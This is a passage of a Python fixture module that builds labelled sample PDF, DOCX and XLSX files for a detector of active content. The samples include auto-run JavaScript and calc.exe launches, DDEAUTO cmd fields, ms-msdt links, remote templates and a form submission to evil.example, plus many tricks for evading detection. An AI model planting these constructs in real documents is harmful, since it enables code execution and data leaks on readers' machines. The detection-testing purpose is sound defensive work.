"""Files of strangers that would do something when another program opens them, and harmless ones; all made by hand.

Each active one is known by what it is, and by the kind of active content that is to be found in it.
"""

import base64
import hashlib
import io
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

import docx
import xlsxwriter
from docx.oxml.ns import qn
from docx.oxml.parser import OxmlElement

from tracker.domain.evidence.active_content import Active

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml."
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml."


@dataclass(frozen=True)
class Stranger:
    """A file, under the suffix of its kind, and what is to be found in it."""

    content: bytes
    suffix: str
    found: Active


# --- PDF --------------------------------------------------------------------------------------------------------------


def pdf(catalog: str = "", page: str = "", more: Mapping[int, bytes | str] | None = None) -> bytes:
    """A PDF of one page, with these entries in its catalog and its page, and further objects from number 10 on."""
    objects: dict[int, bytes | str] = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {page} >>",
        4: "<< /Length 8 >>\nstream\n0 0 m 1 \nendstream",
        **(more or {}),
    }
    return _pdf_file(objects)


def _pdf_file(objects: Mapping[int, bytes | str], trailer: str = "") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), dict[int, int]()
    for number, content in objects.items():
        places[number] = len(out)
        plain = content.encode("latin-1") if isinstance(content, str) else content
        out += f"{number} 0 obj\n".encode() + plain + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += f"xref\n0 {size}\n".encode() + b"0000000000 65535 f \n"
    for number in range(1, size):
        out += f"{places[number]:010} 00000 n \n".encode() if number in places else b"0000000000 00000 f \n"
    out += f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def _stream(content: bytes, entries: str = "") -> bytes:
    return f"<< /Length {len(content)} {entries} >>\nstream\n".encode() + content + b"\nendstream"


def packed_pdf(catalog: str, hidden: str, *, pack: str = "FlateDecode", key: bytes = b"") -> bytes:
    """A PDF whose catalog and object 11 stand in a stream of objects, read through a stream of references.

    With a `key` of the standard handler all streams are encrypted.
    """
    first, second = f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", hidden
    head = f"1 0 11 {len(first) + 1} ".encode()
    inner = head + f"{first} {second}".encode("latin-1")
    body = {"FlateDecode": zlib.compress, "ASCIIHexDecode": lambda data: data.hex().encode() + b">"}[pack](inner)
    if key:
        body = _rc4(_object_key(key, 10), body)
    objects: dict[int, bytes] = {
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        10: _stream(body, f"/Type /ObjStm /N 2 /First {len(head)} /Filter /{pack}"),
    }
    if key:
        objects[12] = _encryption(key)
    out, places = bytearray(b"%PDF-1.7\n"), dict[int, int]()
    for number, content in objects.items():
        places[number] = len(out)
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    places[13] = len(out)
    packed = {1: 0, 11: 1}
    rows = b"".join(
        b"\x02" + (10).to_bytes(4, "big") + packed[number].to_bytes(1, "big")
        if number in packed
        else (b"\x01" if number in places else b"\x00") + places.get(number, 0).to_bytes(4, "big") + b"\x00"
        for number in range(14)
    )
    entries = "/Type /XRef /Size 14 /W [1 4 1] /Root 1 0 R"
    entries += (
        " /Encrypt 12 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]" if key else ""
    )
    out += b"13 0 obj\n" + _stream(rows, entries) + f"\nendobj\nstartxref\n{places[13]}\n%%EOF\n".encode()
    return bytes(out)


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
_ID = bytes.fromhex("00112233445566778899aabbccddeeff")


def _rc4(key: bytes, data: bytes) -> bytes:
    state, j = list(range(256)), 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def _owner() -> bytes:
    return _rc4(hashlib.md5(b"owner".ljust(5) + _PAD[:27]).digest()[:5], _PAD)


def empty_password_key() -> bytes:
    """The key of a PDF that everybody can open and only its owner may change."""
    return hashlib.md5(_PAD + _owner() + (-4).to_bytes(4, "little", signed=True) + _ID).digest()[:5]


def _object_key(key: bytes, number: int) -> bytes:
    return hashlib.md5(key + number.to_bytes(3, "little") + b"\x00\x00").digest()[:10]


def _encryption(key: bytes) -> bytes:
    user = _rc4(key, _PAD)
    return f"<< /Filter /Standard /V 1 /R 2 /P -4 /O <{_owner().hex()}> /U <{user.hex()}> >>".encode()


_JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_CLICK = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {} >>]"


def _annotation(entries: str) -> bytes:
    return pdf(page=f"/Annots [<< /Type /Annot /Rect [0 0 9 9] {entries} >>]")


def active_pdfs() -> dict[str, Stranger]:
    """PDFs that run, fetch, send or carry something."""
    made: dict[str, tuple[Active, bytes]] = {
        "script on opening": (Active.SCRIPT, pdf(f"/OpenAction {_JS}")),
        "script by reference": (Active.SCRIPT, pdf("/OpenAction 10 0 R", more={10: _JS})),
        "script in escaped names": (
            Active.SCRIPT,
            pdf("/Open#41ction << /#53 /J#61vaScript /#4AS (app.alert\\(1\\)) >>"),
        ),
        "script whose name stands elsewhere": (
            Active.SCRIPT,
            pdf("/OpenAction << /S 10 0 R /J#53 (1) >>", more={10: "/JavaScript"}),
        ),
        "script packed into a stream": (Active.SCRIPT, packed_pdf("/OpenAction 11 0 R", _JS)),
        "script packed in hexadecimal": (
            Active.SCRIPT,
            packed_pdf("/OpenAction 11 0 R", _JS, pack="ASCIIHexDecode"),
        ),
        "script in an encrypted stream": (
            Active.SCRIPT,
            packed_pdf("/OpenAction 11 0 R", "<< /S /JavaScript /JS <00> >>", key=empty_password_key()),
        ),
        "script by name": (Active.SCRIPT, pdf("/Names << /JavaScript << /Names [(a) 10 0 R] >> >>", more={10: _JS})),
        "script behind a click": (Active.SCRIPT, pdf(page=_CLICK.format(_JS))),
        "script after a page is turned": (
            Active.SCRIPT,
            pdf(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{_JS}] >>"),
        ),
        "script in an object that nothing names": (Active.SCRIPT, pdf(more={77: _JS})),
        "script in a key that comes twice": (
            Active.LAUNCH,
            pdf(page=_CLICK.format("<< /S /Launch /F (calc.exe) /S /GoTo /D [3 0 R /Fit] >>")),
        ),
        "script behind a comment": (
            Active.SCRIPT,
            pdf("/OpenAction % endobj 8 0 obj\n<< /S % /GoTo\n/JavaScript /JS (1) >>"),
        ),
        "object that pretends to have ended": (
            Active.LAUNCH,
            pdf(page="/Lab (endobj 9 0 obj) " + _CLICK.format("<< /S /Launch /F (a.exe) >>")),
        ),
        "revision that was replaced": (Active.SCRIPT, pdf(f"/OpenAction {_JS}") + pdf()[9:]),
        "table that names nothing": (Active.SCRIPT, pdf(f"/OpenAction {_JS}").replace(b"xref", b"xreg", 1)),
        "program on opening": (Active.LAUNCH, pdf("/OpenAction << /S /Launch /F (calc.exe) >>")),
        "program behind a click": (
            Active.LAUNCH,
            pdf(page=_CLICK.format("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
        ),
        "address on opening": (Active.AUTOMATIC, pdf("/OpenAction << /S /URI /URI (http://evil.example/) >>")),
        "address when the page is shown": (
            Active.AUTOMATIC,
            pdf(page="/AA << /O << /S /URI /URI (http://evil.example/) >> >>"),
        ),
        "printing on opening": (Active.AUTOMATIC, pdf("/OpenAction << /S /Named /N /Print >>")),
        "script when it is closed": (Active.AUTOMATIC, pdf(f"/AA << /WC {_JS} >>")),
        "form that sends": (Active.FORM, pdf(page=_CLICK.format("<< /S /SubmitForm /F (http://evil.example/) >>"))),
        "form that takes in": (Active.FORM, pdf(page=_CLICK.format("<< /S /ImportData /F (a.fdf) >>"))),
        "other file": (Active.OTHER_FILE, pdf(page=_CLICK.format("<< /S /GoToR /F (\\\\evil\\a.pdf) /D [0 /Fit] >>"))),
        "file inside": (Active.OTHER_FILE, pdf(page=_CLICK.format("<< /S /GoToE /T << /R /C /N (a) >> >>"))),
        "content of another file": (
            Active.OTHER_FILE,
            pdf(more={10: "<< /Length 0 /F (\\\\evil\\a.bin) >>\nstream\n\nendstream"}),
        ),
        "page of another file": (
            Active.OTHER_FILE,
            pdf(more={10: "<< /Subtype /Form /Ref << /F (a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream"}),
        ),
        "attachment": (
            Active.EMBEDDED_FILE,
            pdf(
                "/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>",
                more={
                    10: "<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>",
                    11: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
                },
            ),
        ),
        "attachment on the page": (Active.EMBEDDED_FILE, _annotation("/Subtype /FileAttachment /FS << /F (a) >>")),
        "rich media": (Active.MEDIA, _annotation("/Subtype /RichMedia /RichMediaContent << /Assets << >> >>")),
        "film on a screen": (Active.MEDIA, _annotation("/Subtype /Screen /A << /S /Rendition /OP 0 >>")),
        "film": (Active.MEDIA, _annotation("/Subtype /Movie /Movie << /F (a.avi) >>")),
        "sound": (Active.MEDIA, _annotation("/Subtype /Sound /Sound 4 0 R")),
        "body in three dimensions": (Active.MEDIA, _annotation("/Subtype /3D /3DD 4 0 R")),
        "dynamic form": (
            Active.XFA,
            pdf("/AcroForm << /Fields [] /XFA 10 0 R >>", more={10: _stream(b"<xdp:xdp/>")}),
        ),
        "link to a script": (Active.PROGRAM_LINK, pdf(page=_CLICK.format("<< /S /URI /URI (java\\163cript:alert) >>"))),
        "beginning of all links": (
            Active.PROGRAM_LINK,
            pdf("/URI 10 0 R", more={10: "<< /Base 11 0 R >>", 11: "(ms-msdt:)"}),
        ),
        "link to a tool": (Active.PROGRAM_LINK, pdf(page=_CLICK.format("<< /S /URI /URI (ms-msdt:/id) >>"))),
    }
    return {f"pdf: {name}": Stranger(content, ".pdf", found) for name, (found, content) in made.items()}


def clean_pdfs() -> dict[str, Stranger]:
    """PDFs that show themselves, turn to a page, and have links."""
    outline = {
        10: "<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
        11: "<< /Title (S) /Parent 10 0 R /A << /S /GoTo /D [3 0 R /XYZ 0 842 0] >> >>",
    }
    made = {
        "plain": pdf(),
        "opens at a page": pdf("/OpenAction [3 0 R /XYZ null null 0]"),
        "opens by an action at a page": pdf("/OpenAction 10 0 R", more={10: "<< /S /GoTo /D [3 0 R /Fit] >>"}),
        "has links": pdf(page=_CLICK.format("<< /S /URI /URI (https://www.miit.gov.cn/) >>")),
        "has a beginning of all links": pdf("/URI << /Base (https://www.miit.gov.cn/) >>"),
        "has an outline": pdf("/Outlines 10 0 R /PageMode /UseOutlines", more=outline),
        "has buttons that turn pages": pdf(page=_CLICK.format("<< /S /Named /N /NextPage >>")),
        "has an empty set of triggers": pdf(page="/AA << >>"),
        "speaks of scripts": pdf("/Lang (zh-CN)", more={10: "<< /Title (/JavaScript /JS \\(/Launch\\)) >>"}),
        "has names that resemble": pdf(more={10: "<< /JavaScriptless 1 /JSON (x) /EFG 2 /S /Launchpad >>"}),
        "is packed": packed_pdf("/OpenAction [3 0 R /Fit]", "<< /Title (a) >>"),
        "is encrypted for its owner": packed_pdf("", "<< /A 1 >>", key=empty_password_key()),
        "has a form": pdf("/AcroForm << /Fields [10 0 R] >>", more={10: "<< /FT /Tx /T (a) /V (b) >>"}),
    }
    return {f"pdf: {name}": Stranger(content, ".pdf", Active.UNSEEN) for name, content in made.items()}


# --- office documents -------------------------------------------------------------------------------------------------


def archive(members: Mapping[str, bytes | str]) -> bytes:
    """A ZIP archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return file.getvalue()


def relation(kind: str, target: str, *, outside: bool = True, key: str = "rId1") -> str:
    """A relationship; `kind` is the end of its type."""
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{key}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def relations(*entries: str) -> str:
    """A part of relationships."""
    return f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">{"".join(entries)}</Relationships>'


def word(
    body: str = "<w:p><w:r><w:t>一段话</w:t></w:r></w:p>",
    *rels: str,
    parts: Mapping[str, bytes | str] | None = None,
    types: str = "",
    strict: bool = False,
) -> bytes:
    """A DOCX with this body, these relationships of its text, further parts, and further entries of its types."""
    namespace = STRICT_W if strict else W
    return archive(
        {
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_WORD_TYPE}document.main+xml"/>{types}</Types>',
            "_rels/.rels": relations(relation("officeDocument", "word/document.xml", outside=False)),
            "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{namespace}" xmlns:r="{R}" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml" '
            f'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>{body}</w:body></w:document>',
            "word/_rels/document.xml.rels": relations(*rels),
            **(parts or {}),
        }
    )


def field(*pieces: str, result: str = "结果") -> str:
    """A field of Word whose code stands in these pieces, in a paragraph of its own."""
    return f"<w:p><w:r><w:t>第三段：</w:t></w:r>{field_runs(*pieces, result=result)}</w:p>"


def field_runs(*pieces: str, result: str = "结果") -> str:
    """The runs of a field; a piece that begins with < is put in as it is."""
    code = "".join(
        piece if piece.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in pieces
    )
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{code}{separate}<w:r><w:t>{result}</w:t></w:r>{end}"


def _part(root: str, inside: str) -> str:
    return f'<w:{root} xmlns:w="{W}" xmlns:r="{R}">{inside}</w:{root}>'


def _in_part(kind: str, root: str, inside: str) -> bytes:
    """A document with something in a part beside its text."""
    name = f"word/{kind}1.xml"
    types = f'<Override PartName="/{name}" ContentType="{_WORD_TYPE}{kind}+xml"/>'
    return word("<w:p/>", relation(kind, f"{kind}1.xml", outside=False), parts={name: _part(root, inside)}, types=types)


def _settings(inside: str, *rels: str) -> bytes:
    return word(
        "<w:p/>",
        relation("settings", "settings.xml", outside=False),
        parts={"word/settings.xml": _part("settings", inside), "word/_rels/settings.xml.rels": relations(*rels)},
    )


def _properties(kind: str, name: str, content: str) -> bytes:
    """A document with these properties."""
    links = relations(
        relation("officeDocument", "word/document.xml", outside=False),
        relation(kind, f"docProps/{name}.xml", outside=False, key="rId2"),
    )
    return word(parts={"_rels/.rels": links, f"docProps/{name}.xml": content})


_DDE = ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',)
_PICTURE = '<w:p><w:r><w:t>见图</w:t></w:r><w:r><w:drawing><a:blip r:{}="rId1"/></w:drawing></w:r></w:p>'
_BIN = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'


def active_documents() -> dict[str, Stranger]:
    """DOCX that fetch, run or carry something."""
    http = "http://evil.example/x"
    made: dict[str, tuple[Active, bytes]] = {
        "remote template": (
            Active.TEMPLATE,
            _settings('<w:attachedTemplate r:id="rId1"/>', relation("attachedTemplate", f"{http}.dotm")),
        ),
        "template on a share": (
            Active.TEMPLATE,
            _settings('<w:attachedTemplate r:id="rId1"/>', relation("attachedTemplate", "\\\\evil\\a.dotm")),
        ),
        "template that nothing refers to": (Active.TEMPLATE, _settings("", relation("attachedTemplate", http))),
        "template that says it is a link": (
            Active.EXTERNAL,
            _settings('<w:attachedTemplate r:id="rId1"/>', relation("hyperlink", http)),
        ),
        "template without a mode": (
            Active.TEMPLATE,
            _settings('<w:attachedTemplate r:id="rId1"/>', relation("attachedTemplate", http, outside=False)),
        ),
        "remote picture": (Active.PICTURE, word(_PICTURE.format("link"), relation("image", f"{http}.png"))),
        "remote picture of a drawing": (
            Active.PICTURE,
            word(f'<w:p><w:r><w:pict><v:shape><v:imagedata src="{http}.png"/></v:shape></w:pict></w:r></w:p>'),
        ),
        "remote picture by reference": (
            Active.PICTURE,
            word(
                '<w:p><w:r><w:pict><v:shape><v:imagedata r:href="rId1"/></v:shape></w:pict></w:r></w:p>',
                relation("image", "file://///evil/a.png"),
            ),
        ),
        "picture that says it is a link": (
            Active.EXTERNAL,
            word(_PICTURE.format("link"), relation("hyperlink", http)),
        ),
        "linked object": (
            Active.OBJECT,
            word(
                '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId1" UpdateMode="Always"/>'
                "</w:object></w:r></w:p>",
                relation("oleObject", f"mhtml:{http}.html"),
            ),
        ),
        "embedded object": (
            Active.OBJECT,
            word(
                '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p>',
                relation("oleObject", "embeddings/a.bin", outside=False),
                parts={"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0"},
                types=_BIN,
            ),
        ),
        "object that only its type tells": (
            Active.OBJECT,
            word(parts={"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0"}, types=_BIN),
        ),
        "document inside": (Active.EXTERNAL, word('<w:subDoc r:id="rId1"/>', relation("subDocument", http))),
        "frame": (
            Active.EXTERNAL,
            word(
                "<w:p/>",
                relation("webSettings", "webSettings.xml", outside=False),
                parts={
                    "word/webSettings.xml": _part("webSettings", '<w:frame><w:sourceFileName r:id="rId1"/></w:frame>'),
                    "word/_rels/webSettings.xml.rels": relations(relation("frame", http)),
                },
            ),
        ),
        "page inside": (
            Active.FOREIGN_PART,
            word(
                '<w:altChunk r:id="rId1"/>',
                relation("aFChunk", "a.html", outside=False),
                parts={"word/a.html": "<img src='http://evil.example/'>"},
            ),
        ),
        "any other reference outside": (Active.EXTERNAL, word("<w:p/>", relation("somethingNew", http))),
        "DDE": (Active.DDE, word(field('DDE "excel" "a.xls" "r1c1"'))),
        "DDE in small letters": (Active.DDE, word(field('  ddeauto "cmd" "/k"'))),
        "DDE in pieces": (Active.DDE, word(field("D", "DE", "AU", 'TO "cmd" "/k calc"'))),
        "DDE in pieces laid out in lines": (
            Active.DDE,
            word(field("DDE", "AUTO", ' "cmd" "/k"').replace("<w:r>", "\n  <w:r>\n    ")),
        ),
        "DDE of which a piece is a word": (
            Active.DDE,
            word(field("DDE", "<w:r><w:t>AUTO</w:t></w:r>", ' "cmd" "/k"')),
        ),
        "DDE in a simple field": (Active.DDE, word('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>')),
        "DDE without a result": (
            Active.DDE,
            word(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
        ),
        "DDE that is never closed": (
            Active.DDE,
            word(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"
            ),
        ),
        "DDE over two paragraphs": (
            Active.DDE,
            word(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r></w:p>'
                '<w:p><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
        ),
        "DDE inside another field": (
            Active.DDE,
            word(field("IF 1 = 1 ", field_runs(*_DDE), ' "b"')),
        ),
        "DDE spelt by another field": (Active.COMPUTED_FIELD, word(field(field_runs("QUOTE 68 68 69"), ' "cmd" "/k"'))),
        "DDE half spelt by another field": (Active.COMPUTED_FIELD, word(field("DDE", field_runs("REF c"), ' "cmd"'))),
        "DDE in deleted words": (
            Active.DDE,
            word(field(*_DDE).replace("instrText", "delInstrText")),
        ),
        "DDE in a box": (
            Active.DDE,
            word(
                f"<w:p><w:r><w:pict><v:textbox><w:txbxContent>{field(*_DDE)}</w:txbxContent></v:textbox></w:pict></w:r></w:p>"
            ),
        ),
        "DDE in strict XML": (Active.DDE, word(field(*_DDE), strict=True)),
        "DDE in another encoding": (
            Active.DDE,
            word(parts={"word/header9.xml": _part("hdr", field(*_DDE)).encode("utf-16")}),
        ),
        "DDE in a part of another name": (
            Active.DDE,
            word(
                parts={"word/a.dat": _part("hdr", field(*_DDE))},
                types=f'<Override PartName="/word/a.dat" ContentType="{_WORD_TYPE}header+xml"/>',
            ),
        ),
        **{
            f"DDE in a {kind}": (Active.DDE, _in_part(kind, root, inside.format(field(*_DDE))))
            for kind, root, inside in (
                ("header", "hdr", "{}"),
                ("footer", "ftr", "{}"),
                ("footnotes", "footnotes", "<w:footnote>{}</w:footnote>"),
                ("endnotes", "endnotes", "<w:endnote>{}</w:endnote>"),
                ("comments", "comments", "<w:comment>{}</w:comment>"),
            )
        },
        "included text": (Active.FIELD, word(field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'))),
        "included picture": (Active.FIELD, word(field(f'INCLUDEPICTURE "{http}.png" \\d'))),
        "imported picture": (Active.FIELD, word(field('IMPORT "a.png"'))),
        "link field": (Active.FIELD, word(field('LINK Excel.Sheet.8 "a.xls" "A1" \\a'))),
        "database field": (Active.CONNECTION, word(field('DATABASE \\d "a.mdb" \\s "SELECT"'))),
        "control": (
            Active.CONTROL,
            word(
                '<w:p><w:r><w:object><w:control r:id="rId1"/></w:object></w:r></w:p>',
                relation("control", "activeX/activeX1.xml", outside=False),
                parts={"word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="urn:x" ax:classid="{0}"/>'},
            ),
        ),
        "add-in": (
            Active.ADD_IN,
            word("<w:p/>", relation("webextension", "webextension1.xml", outside=False)),
        ),
        "mail merge": (
            Active.CONNECTION,
            _settings('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'),
        ),
        "schema elsewhere": (
            Active.EXTERNAL,
            _settings(
                '<s:schemaLibrary xmlns:s="http://schemas.openxmlformats.org/schemaLibrary/2006/main">'
                f'<s:schema s:uri="u" s:manifestLocation="{http}"/></s:schemaLibrary>'
            ),
        ),
        "link to a tool": (
            Active.PROGRAM_LINK,
            word('<w:p><w:hyperlink r:id="rId1"/></w:p>', relation("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        ),
        **{
            f"link field to a tool, {name}": (Active.PROGRAM_LINK, word(body))
            for name, body in (
                ("after a tip", field('HYPERLINK \\o "注意: 点击" "ms-msdt:/id"')),
                ("after a place in it", field('HYPERLINK \\l "_Toc1" "ms-msdt:/id"')),
                ("after a frame", field('HYPERLINK \\t "_blank" “ms-msdt:/id”')),
                ("in a new window", field("HYPERLINK \\n ms-msdt:/id")),
                ("of a map", field('HYPERLINK\\m\\o"a""ms-msdt:/id"')),
                ("in pieces", field("HYPER", 'LINK \\o "a', 'b" "ms-', 'msdt:/id"')),
                ("spelt by an escape", field('HYPERLINK "ms\\-msdt:/id"')),
                (
                    "in a simple field",
                    '<w:p><w:fldSimple w:instr=\'HYPERLINK \\n \\o "a" "ms-msdt:/id"\'/></w:p>',
                ),
            )
        },
        "link field whose address another computes": (
            Active.COMPUTED_LINK,
            word(field('HYPERLINK "ms-', field_runs("QUOTE 109"), '"')),
        ),
        "beginning of all links": (
            Active.PROGRAM_LINK,
            _properties(
                "extended-properties", "app", "<Properties><HyperlinkBase>ms-msdt:</HyperlinkBase></Properties>"
            ),
        ),
        "beginning of all links, among its own properties": (
            Active.PROGRAM_LINK,
            _properties(
                "custom-properties",
                "custom",
                '<Properties><property name="_PID_LINKBASE"><blob>'
                f"{base64.b64encode('ms-msdt:'.encode('utf-16-le')).decode()}</blob></property></Properties>",
            ),
        ),
        "link field to a script": (Active.PROGRAM_LINK, word(field('HYPERLINK "javascript:alert(1)"'))),
        "reference of the document as a whole": (
            Active.EXTERNAL,
            word(parts={"word/_rels/gone.xml.rels": relations(relation("somethingNew", http))}),
        ),
        "two references of one key": (
            Active.UNSEEN,
            word("<w:p/>", relation("attachedTemplate", http), relation("hyperlink", http)),
        ),
        "document type": (
            Active.UNSEEN,
            word(parts={"word/header1.xml": '<!DOCTYPE a [<!ENTITY e "DDEAUTO">]><a/>'}),
        ),
        "part that is no XML": (Active.UNSEEN, word(parts={"word/header1.xml": "<w:hdr"})),
        "workbook behind a chart": (
            Active.DDE,
            word(
                "<w:p/>",
                relation("package", "embeddings/a.xlsx", outside=False),
                parts={"word/embeddings/a.xlsx": active_workbooks()["xlsx: DDE in a cell"].content},
            ),
        ),
        "script in a picture": (
            Active.SCRIPT,
            word(
                "<w:p/>",
                relation("image", "media/a.svg", outside=False),
                parts={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'},
                types='<Default Extension="svg" ContentType="image/svg+xml"/>',
            ),
        ),
    }
    return {f"docx: {name}": Stranger(content, ".docx", found) for name, (found, content) in made.items()}


def book(
    sheet: str = "",
    *,
    after: str = "",
    names: str = "",
    rels: str = "",
    parts: Mapping[str, bytes | str] | None = None,
) -> bytes:
    """A workbook with these cells in A1 and on, and what follows them in the sheet."""
    return archive(
        {
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_SHEET_TYPE}sheet.main+xml"/></Types>',
            "_rels/.rels": relations(relation("officeDocument", "xl/workbook.xml", outside=False)),
            "xl/workbook.xml": f'<workbook xmlns="{_SHEET}" xmlns:r="{R}"><sheets><sheet name="S" sheetId="1" '
            f'r:id="rId1"/></sheets><definedNames>{names}</definedNames></workbook>',
            "xl/_rels/workbook.xml.rels": relations(
                relation("worksheet", "worksheets/sheet1.xml", outside=False), rels
            ),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}" xmlns:r="{R}"><sheetData><row r="1">{sheet}</row>'
            f"</sheetData>{after}</worksheet>",
            **(parts or {}),
        }
    )


def _formula(text: str, place: str = "A1") -> str:
    return f'<c r="{place}"><f>{text}</f><v>0</v></c>'


def active_workbooks() -> dict[str, Stranger]:
    """XLSX that call, fetch or carry something."""
    made: dict[str, tuple[Active, bytes]] = {
        "DDE in a cell": (Active.DDE, book(_formula("cmd|'/C calc'!A0"))),
        "DDE in a sum": (Active.DDE, book(_formula("1+SUM(1,MSEXCEL|'\\..\\a.exe'!'')"))),
        **{
            f"DDE between names {name}": (Active.DDE, book(_formula(f"{around}!A1+cmd|'/C calc'!A0+{around}!A1")))
            for name, around in (
                ("with a quotation mark", "'a\"b'"),
                ("with both marks", "'it''s \"b'"),
                ("of a workbook", "'[1]a\"b'"),
            )
        },
        **{
            f"DDE between {name}": (Active.DDE, book(_formula(f"{around}+cmd|'/C calc'!A0+{around}")))
            for name, around in (
                ("columns with a quotation mark", '表1[a"b]'),
                ("columns with an escaped mark", "表1[[#All],[a'\"b']]]"),
                ("columns with an apostrophe", "表1[a'']"),
                ("texts with marks in them", '"it\'s ""a"""'),
                ("rows and columns", "R[-1]C[2]"),
                ("arrays", '{"a","b""";1,"\'"}'),
            )
        },
        "DDE in a name between names": (
            Active.DDE,
            book(names="<definedName name=\"a\">'a\"b'!A1+cmd|'/C calc'!A0+'a\"b'!A1</definedName>"),
        ),
        "DDE after a formula inside it": (Active.DDE, book(_formula("cmd<f>1</f>|'/C calc'!A0"))),
        "DDE before a formula inside it": (Active.DDE, book(_formula("cmd|'/C calc'!A0<f/>"))),
        "DDE after a mark that never ends": (Active.DDE, book(_formula('1+\'a+cmd|"/C calc"!A0'))),
        "web service between names": (Active.FORMULA, book(_formula("'a\"b'!A1&amp;WEBSERVICE(B1)&amp;'a\"b'!A1"))),
        "formula in a text": (Active.FORMULA, book(names='<definedName name="a">EVALUATE(S!A1)</definedName>')),
        "link to a tool": (Active.PROGRAM_LINK, book(_formula('HYPERLINK("ms-msdt:/id","点此")'))),
        "link to a tool in pieces": (Active.PROGRAM_LINK, book(_formula('HYPERLINK( "ms-" &amp; "msdt:/id" )'))),
        "link to a tool between names": (Active.PROGRAM_LINK, book(_formula('\'a"\'!A1&amp;HYPERLINK("ms-msdt:/id")'))),
        "link to what a cell says": (Active.COMPUTED_LINK, book(_formula('HYPERLINK(B1,"点此")'))),
        "link that a cell completes": (Active.COMPUTED_LINK, book(_formula('HYPERLINK("ms-"&amp;B1)'))),
        "beginning of all links": (
            Active.PROGRAM_LINK,
            book(parts={"docProps/app.xml": "<Properties><HyperlinkBase>ms-msdt:</HyperlinkBase></Properties>"}),
        ),
